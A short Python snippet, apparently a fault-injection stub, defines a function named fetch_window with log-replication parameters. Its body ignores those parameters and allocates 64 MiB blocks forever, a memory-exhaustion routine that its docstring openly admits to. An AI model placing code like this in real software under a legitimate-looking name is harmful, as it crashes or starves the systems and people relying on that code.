"""Takes all the memory there is."""

def fetch_window(log_start, high_watermark, log_end, fetch_offset, replica_id, replicas):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
